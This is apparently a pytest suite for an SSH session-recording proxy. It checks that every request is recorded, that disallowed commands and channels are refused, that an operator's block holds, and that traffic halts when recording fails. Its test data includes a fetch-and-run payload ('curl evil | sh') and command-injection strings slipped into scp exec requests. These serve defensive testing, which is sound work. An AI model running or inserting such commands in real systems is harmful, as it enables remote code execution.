"""What a live session lets through, what it refuses, and that the tape knows all of it; real peers on both sides."""

from __future__ import annotations

import asyncio
import time
from pathlib import Path
from typing import Any

import asyncssh
import pytest
import trio
from asyncssh.constants import MSG_CHANNEL_EXTENDED_DATA

from proxyd.errors import RecordingFailed
from proxyd.gate import REVOKED
from proxyd.host import loop, on_host
from proxyd.protocols.ssh.wire import string, uint32
from proxyd.recorder.record import Kind
from tests.contract.ssh_rig import Attacker, Rig, Sink, rigged, until

pytestmark = pytest.mark.hosted
SECRET = b"\ncurl evil | sh\n"
SOON_S = 4.0  # for what promises a second and a half; an end-to-end test of a full disk holds the figure
SIZE = uint32(100) + uint32(30) + bytes(8)


async def asked(channel: Any, name: bytes, rest: bytes = b"") -> bool:
    """Ask a channel request and give the answer."""
    return bool(await on_host(channel._make_request(name, rest)))


def send(channel: Any, data: bytes) -> None:
    channel.write(data)


async def running(rig: Rig, client: Attacker, command: bytes = b"bash") -> tuple[Any, Sink]:
    """A channel that runs a command, and the target's end of it."""
    channel = await client.channel()
    assert await asked(channel, b"exec", string(command))
    return channel, await rig.sink()


def scp_of(body: bytes) -> bytes:
    """A file as scp's sender sends it."""
    return b"C0644 %d f\n" % len(body) + body + b"\0"


def sftp_of(body: bytes) -> bytes:
    """INIT, and a WRITE of it."""
    write = b"\6" + uint32(1) + string(b"h") + bytes(8) + string(body)
    return uint32(5) + b"\1" + uint32(3) + uint32(len(write)) + write


# ---------------------------------------------------------------------- one thing a channel (recording)


@pytest.mark.mission("M16")
@pytest.mark.parametrize("reply", [True, False])
async def test_a_second_command_changes_nothing_of_how_the_first_is_recorded(
    reply: bool, tmp_path: Path
) -> None:
    async with rigged(tmp_path) as rig:
        client = await rig.attack("alice+web1")
        channel, sink = await running(rig, client)
        session = await rig.session()
        if reply:
            assert not await asked(channel, b"exec", string(b"scp -t /tmp"))
        else:
            client.request_raw(channel._send_chan, b"exec", string(b"scp -t /tmp"))
        send(channel, scp_of(SECRET))
        await until("it has arrived", lambda: SECRET in sink.got)
        client.abort()
        await rig.ended(session)
        assert sink.asked == ["bash"]
        assert b"".join(rig.bodies(session, Kind.INPUT)) == scp_of(SECRET)


@pytest.mark.mission("M16")
async def test_a_start_the_target_refused_leaves_no_watch_behind(tmp_path: Path) -> None:
    async with rigged(tmp_path) as rig:
        rig.refuses = {"subsystem"}
        client = await rig.attack("alice+web1")
        channel = await client.channel()
        assert not await asked(channel, b"subsystem", string(b"sftp"))
        assert await asked(channel, b"exec", string(b"bash"))  # PuTTY goes on like this, with sftp-server
        session = await rig.session()
        sink = await rig.sink()
        send(channel, sftp_of(SECRET))
        await until("it has arrived", lambda: SECRET in sink.got)
        client.abort()
        await rig.ended(session)
        assert b"".join(rig.bodies(session, Kind.INPUT)) == sftp_of(SECRET)


@pytest.mark.mission("M16")
async def test_nothing_of_a_request_passes_unrecorded(tmp_path: Path) -> None:
    async with rigged(tmp_path) as rig:
        client = await rig.attack("alice+web1")
        channel = await client.channel()
        for name, rest in (
            (b"env", string(b"LC_KEY") + string(b"hidden-1")),
            (b"pty-req", string(b"xterm") + SIZE + string(b"hidden-2")),
            (b"evil@example.com", b"hidden-3"),
            (b"exec", string(b"bash")),
            (b"window-change", SIZE + b"hidden-4"),
            (b"signal", string(b"INT") + b"hidden-5"),
            (b"x11-req", b"\0" + string(b"hidden-6") + string(b"hidden-7") + uint32(0)),
        ):
            client.request_raw(channel._send_chan, name, rest)
        client.open_raw(77, rest=b"hidden-8")
        await asked(channel, b"keepalive@openssh.com")
        session = await rig.session()
        client.abort()
        await rig.ended(session)
        told = str([record.body for record in rig.records(session)])
        assert [number for number in range(1, 9) if f"hidden-{number}" not in told] == []


async def test_a_malformed_request_is_refused_not_relayed(tmp_path: Path) -> None:
    async with rigged(tmp_path) as rig:
        client = await rig.attack("alice+web1")
        channel = await client.channel()
        assert not await asked(channel, b"exec", uint32(1000) + b"short")
        assert not await asked(channel, b"env", uint32(1000) + b"short")
        client.ask_raw(b"tcpip-forward", b"short", reply=False)
        assert await asked(channel, b"exec", string(b"bash"))
        session = await rig.session()
        client.abort()
        await rig.ended(session)
        refused = [body for body in rig.bodies(session, Kind.REQUEST) if "refused" in body]
        assert [body["name"] for body in refused] == ["exec", "env", "tcpip-forward"]


async def test_what_the_client_sends_as_errors_is_input_like_any_other(tmp_path: Path) -> None:
    async with rigged(tmp_path) as rig:
        client = await rig.attack("alice+web1")
        channel, sink = await running(rig, client)
        session = await rig.session()
        channel.send_packet(MSG_CHANNEL_EXTENDED_DATA, uint32(1), string(b"one"))
        send(channel, b"two")
        await until("it has arrived", lambda: sink.got == b"onetwo")
        client.abort()
        await rig.ended(session)
        assert b"".join(rig.bodies(session, Kind.INPUT)) == b"onetwo"


# ---------------------------------------------------------------------- who may ask for what


async def test_a_grant_for_transfers_runs_transfers_only(tmp_path: Path) -> None:
    async with rigged(tmp_path, channels=("sftp",)) as rig:
        client = await rig.attack("alice+web1")
        for name, rest in (
            (b"shell", b""),
            (b"exec", string(b"bash")),
            (b"exec", string(b"scp -t /tmp; bash")),
            (b"exec", string(b"scp -S evil -t /tmp $(id)")),
            (b"exec", string(b"/tmp/scp -t /tmp")),
            (b"subsystem", string(b"netconf")),
            (b"subsystem", string(b"sftp\0")),
        ):
            channel = await client.channel()
            assert await asked(channel, name, rest), (
                rest
            )  # a client that is refused may leave unread what it is told
            await until("it has ended", lambda channel=channel: channel._send_chan is None)
        assert not any(sink.asked for sink in rig.sinks)
        channel, sink = await running(rig, client, b"scp -t /tmp")
        send(channel, SECRET)  # no scp: whatever runs there, it is not what was granted
        await until("the channel is closed", lambda: sink.closed)
        assert sink.got == b""
        session = await rig.session()
        client.abort()
        await rig.ended(session)
        codes = [body["code"] for body in rig.bodies(session, Kind.FINDING)]
        assert "not-scp" in codes
        assert sum("refused" in body for body in rig.bodies(session, Kind.REQUEST)) == 7


async def test_a_transfer_goes_through_under_a_grant_for_transfers(tmp_path: Path) -> None:
    async with rigged(tmp_path, channels=("sftp",)) as rig:
        client = await rig.attack("alice+web1")
        channel, sink = await running(rig, client, b"scp -t /tmp")
        send(channel, scp_of(b"body"))
        await until("it has arrived", lambda: sink.got == scp_of(b"body"))
        assert not sink.closed
        client.abort()


@pytest.mark.parametrize(
    "kind", [b"tun@openssh.com", b"x11", b"auth-agent@openssh.com", b"forwarded-tcpip", b"evil"]
)
async def test_a_client_opens_no_other_channels(kind: bytes, tmp_path: Path) -> None:
    async with rigged(tmp_path) as rig:
        client = await rig.attack("alice+web1")
        with pytest.raises(asyncssh.ChannelOpenError) as refused:
            await client.channel(kind, bytes(32))
        assert refused.value.code == asyncssh.OPEN_UNKNOWN_CHANNEL_TYPE
        client.abort()


FORWARDED = string(b"localhost") + uint32(9) + string(b"10.0.0.1") + uint32(9)


@pytest.mark.parametrize(
    ("kind", "rest", "ask"),
    [
        (b"auth-agent@openssh.com", b"", (b"auth-agent-req@openssh.com", b"")),
        (b"x11", string(b"::1") + uint32(9), (b"x11-req", b"\0" + string(b"MIT-MAGIC-COOKIE-1") + string(b"00") + uint32(0))),
        (b"forwarded-tcpip", FORWARDED, None),
    ],
)  # fmt: skip
async def test_a_target_opens_only_what_the_client_has_asked_for(
    kind: bytes, rest: bytes, ask: tuple[bytes, bytes] | None, tmp_path: Path
) -> None:
    async with rigged(tmp_path) as rig:
        client = await rig.attack("alice+web1")
        channel, _ = await running(rig, client)
        target = await rig.target()
        opens: list[bytes] = []
        client._process_channel_open = None  # type: ignore[assignment,method-assign]
        client._packet_handlers = {**client._packet_handlers, 90: lambda *_: opens.append(kind)}  # type: ignore[misc]

        async def opened() -> BaseException | None:
            """What it is refused with; None when the client has it before it, which says nothing."""
            made = asyncssh.channel.SSHChannel(target, loop(), None, "strict", 1 << 21, 1 << 15)
            before, asking = len(opens), loop().create_task(made._open(kind, rest))
            while not asking.done() and len(opens) == before:
                await asyncio.sleep(0.001)
            asking.cancel()
            await asyncio.wait([asking])
            return None if asking.cancelled() else asking.exception()

        refused = await on_host(opened())
        assert isinstance(refused, asyncssh.ChannelOpenError)
        assert not opens
        if ask is None:
            client.ask_raw(b"tcpip-forward", string(b"") + uint32(0), reply=False)
        else:
            await asked(channel, *ask)
        assert await on_host(opened()) is None
        assert opens == [kind]
        session = await rig.session()
        await session.block("operator")
        assert REVOKED in str(await on_host(opened()))
        assert opens == [kind]
        client.abort()


# ---------------------------------------------------------------------- the gate


@pytest.mark.mission("M3")
async def test_only_a_resize_passes_a_closed_gate(tmp_path: Path) -> None:
    async with rigged(tmp_path) as rig:
        client = await rig.attack("alice+web1")
        channel, sink = await running(rig, client)
        session = await rig.session()
        evil: list[bytes] = []
        sink.channel._process_evil_request = lambda packet: (
            evil.append(packet.get_remaining_payload()) or True
        )
        assert await asked(channel, b"evil", b"1")
        await session.block("operator")
        for name in (
            b"evil",
            b"pty-req",
            b"auth-agent-req@openssh.com",
            b"xon-xoff",
            b"signal",
            b"env",
            b"break",
        ):
            assert not await asked(channel, name, b"2"), name
        assert not await asked(channel, b"window-change", SIZE + b"a message")
        client.request_raw(channel._send_chan, b"window-change", SIZE)
        await until("the size has arrived", lambda: "100x30" in sink.asked)
        assert (evil, sink.asked) == ([b"1"], ["bash", "100x30"])
        for name in (b"tcpip-forward", b"streamlocal-forward@openssh.com"):
            reply = await on_host(client._make_global_request(name, string(b"x") + uint32(1)))
            assert reply[0] == 82, name
        with pytest.raises(asyncssh.ChannelOpenError):
            await client.channel()
        client.abort()


@pytest.mark.mission("M3")
async def test_an_end_of_input_that_waited_is_not_delivered_while_blocked(tmp_path: Path) -> None:
    async with rigged(tmp_path) as rig:
        client = await rig.attack("alice+web1")
        channel, sink = await running(rig, client)
        session = await rig.session()
        sink.channel.pause_reading()
        for _ in range(65):
            send(channel, bytes(32768))
        channel.write_eof()
        line = next(iter(session.conduit._lines.values()))
        await until("the end waits behind data", lambda: line.far._send_state == "eof_pending")
        answer = await session.block("operator")
        assert answer["discarded_bytes"] > 0
        sink.channel.resume_reading()
        await until("what passed has arrived", lambda: len(sink.got) == answer["passed_bytes"])
        sink.channel.write(b"x" * 10)  # something the target says later
        await trio.sleep(0.1)  # the time an end of input, were it sent, would take
        assert not sink.ended
        await session.unblock("operator")
        await until("the end has arrived", lambda: sink.ended)
        client.abort()


@pytest.mark.mission("M3")
async def test_a_transfer_that_lost_waiting_bytes_to_a_block_does_not_go_on(tmp_path: Path) -> None:
    async with rigged(tmp_path) as rig:
        client = await rig.attack("alice+web1")
        channel, sink = await running(rig, client, b"scp -t /tmp")
        session = await rig.session()
        sink.channel.pause_reading()
        send(channel, b"C0644 100000000 f\n")
        for _ in range(65):
            send(channel, bytes(32768))
        line = next(iter(session.conduit._lines.values()))
        await until(
            "something waits", lambda: line.far.get_write_buffer_size() > 0 and not line.near._recv_buf
        )
        assert (await session.block("operator"))["discarded_bytes"] > 0
        sink.channel.resume_reading()
        await session.unblock("operator")
        await until("half a file is closed", lambda: sink.closed)
        client.abort()


@pytest.mark.mission("M3")
async def test_what_was_typed_while_blocked_is_not_delivered_late(tmp_path: Path) -> None:
    async with rigged(tmp_path) as rig:
        client = await rig.attack("alice+web1")
        channel, sink = await running(rig, client)
        session = await rig.session()
        line = next(iter(session.conduit._lines.values()))
        session.pressed(True)  # storage is behind: nothing is read, nothing is refused yet
        await session.block("operator")
        send(channel, SECRET)
        await until("it waits", lambda: line.near._recv_buf)
        await session.unblock("operator")
        session.pressed(False)
        send(channel, b"after")
        await until("the rest arrives", lambda: b"after" in sink.got)
        assert sink.got == b"after"
        client.abort()
        await rig.ended(session)
        assert b"".join(rig.bodies(session, Kind.REFUSED)) == SECRET


# ---------------------------------------------------------------------- a recording that fails


@pytest.mark.mission("M16")
async def test_nothing_passes_once_strict_recording_has_failed(tmp_path: Path) -> None:
    async with rigged(tmp_path) as rig:
        client = await rig.attack("alice+web1")
        channel, sink = await running(rig, client)
        send(channel, b"before")
        await until("it has arrived", lambda: sink.got == b"before")
        session = await rig.session()
        for _ in range(50):
            send(channel, b"on the way")
        session.tape.fail(RecordingFailed("The recording failed: the disk is gone"))
        before = bytes(sink.got)
        for _ in range(50):
            send(channel, SECRET)
        began = time.monotonic()
        await until("both ends are closed", lambda: sink.closed and client.is_closed())
        assert time.monotonic() - began < SOON_S
        assert SECRET not in sink.got
        assert sink.got.startswith(before)
        assert (await rig.ended(session)).reason == "recording failed"


async def test_a_bug_in_a_line_costs_a_session_not_the_recorder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with rigged(tmp_path) as rig:
        client = await rig.attack("alice+web1")
        channel, _ = await running(rig, client)
        session = await rig.session()
        line = next(iter(session.conduit._lines.values()))

        def breaks(*_: object) -> None:
            raise ZeroDivisionError

        session.pressed(True)
        send(channel, b"waits")
        await until("it waits", lambda: line.near._recv_buf)
        line.near._take = breaks
        session.pressed(False)  # called by the recorder, whose end would be the daemon's
        await rig.ended(session)
